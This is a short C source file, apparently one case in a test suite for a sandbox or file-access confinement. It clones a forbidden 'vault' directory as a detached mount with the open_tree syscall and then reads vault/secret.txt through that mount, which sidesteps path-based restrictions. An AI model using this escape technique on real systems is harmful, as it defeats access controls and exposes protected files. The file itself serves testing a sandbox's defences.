/* technique: takes the forbidden directory as a detached mount, whose paths have no parents
 * source: open_tree(2), move_mount(2)
 * success: the content of vault/secret.txt on the output
 * control: outside
 * event: SystemCall
 */
#include "power.h"

#define OPEN_TREE 428

int main(void)
{
	enter_own_mounts();
	int tree = (int)syscall(OPEN_TREE, AT_FDCWD, "vault", 1 /* OPEN_TREE_CLONE */);

	if (tree < 0)
		return failed("open_tree");
	return show(openat(tree, "secret.txt", O_RDONLY));
}
